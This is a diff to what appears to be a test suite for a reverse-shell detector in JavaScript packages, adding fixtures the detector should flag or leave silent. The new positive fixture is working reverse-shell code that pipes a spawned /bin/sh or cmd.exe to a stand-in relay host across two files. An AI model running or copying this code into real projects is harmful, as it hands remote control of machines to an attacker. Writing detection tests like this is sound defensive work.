@@ -12,6 +12,16 @@ const GIVES = `exports.attach = socket => { const child = require('child_process
 examine(opensReverseShell, {
   speaks: [
     {
+      when: 'what a shell says goes into a socket that another file has made',
+      files: {
+        'ways.js': `const net = require('net'); exports.ways = { tcp({ host, port }) { return net.connect({ host, port }) } }`,
+        'index.js': `const { ways } = require('./ways'); const cp = require('child_process'); const shells = { linux: ['/bin/sh', '-i'], win32: ['cmd.exe', ''] };
+function join(wire, [bin, flag]) { const child = cp.spawn(bin, [flag]); for (const one of [child.stdout, child.stderr]) one.pipe(wire, { end: false }) }
+exports.expand = port => { const wire = ways.tcp({ host: 'tap.relay.invalid', port }); wire.once('connect', () => join(wire, shells[process.platform])) }`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a helper for pages of health gives a shell to a connection that it is handed',
       files: { 'package.json': { name: 'healthz-kit', description: 'Pages of health for servers' }, 'index.js': GIVES },
       weight: 'strong',
@@ -87,6 +97,12 @@ examine(opensReverseShell, {
     },
   ],
   silent: [
+    {
+      when: 'a program is started through a shell, and a socket goes to whoever is named',
+      files: {
+        'index.js': `const net = require('net'); const cp = require('child_process'); exports.log = (host, line) => net.connect(514, host).end(line); exports.run = command => { const child = cp.spawn('/bin/sh', ['-c', command]); child.stdout.pipe(process.stdout); return child }`,
+      },
+    },
     {
       when: 'a terminal in a page does',
       files: { 'package.json': { name: 'web-terminal', description: 'A terminal in a page' }, 'index.js': GIVES },
